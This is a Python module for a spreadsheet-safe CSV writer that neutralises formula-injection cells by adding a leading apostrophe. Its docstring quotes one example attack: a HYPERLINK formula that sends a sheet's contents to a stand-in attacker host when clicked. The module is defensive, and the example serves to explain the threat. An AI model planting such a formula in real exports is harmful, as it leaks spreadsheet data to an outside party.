"""CSV for people who open it in a spreadsheet: the one writer every export uses (statistics, audit logs).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by Excel, LibreOffice
and Google Sheets (`=HYPERLINK("http://evil.invalid/?"&A1,"klik")` leaks the sheet when clicked). Such text cells
get a leading apostrophe, which the spreadsheet shows as plain text (OWASP "CSV injection"). Numbers (int, float)
are written as they are, so a negative figure stays a number; any text, however it came, is neutralised.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | None


def neutralise(text: str) -> str:
    """`text`, prefixed with an apostrophe when a spreadsheet would take it for a formula."""
    return f"'{text}" if text.startswith(FORMULA_LEADS) else text


def _cell(value: Cell) -> str | int | float:
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, int | float):
        return neutralise(str(value))
    return value


def csv_lines(rows: Iterable[Sequence[Cell]]) -> Iterator[str]:
    """One CSV line (with its CRLF) per row, streamed; the first row is usually the header."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow([_cell(value) for value in row])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
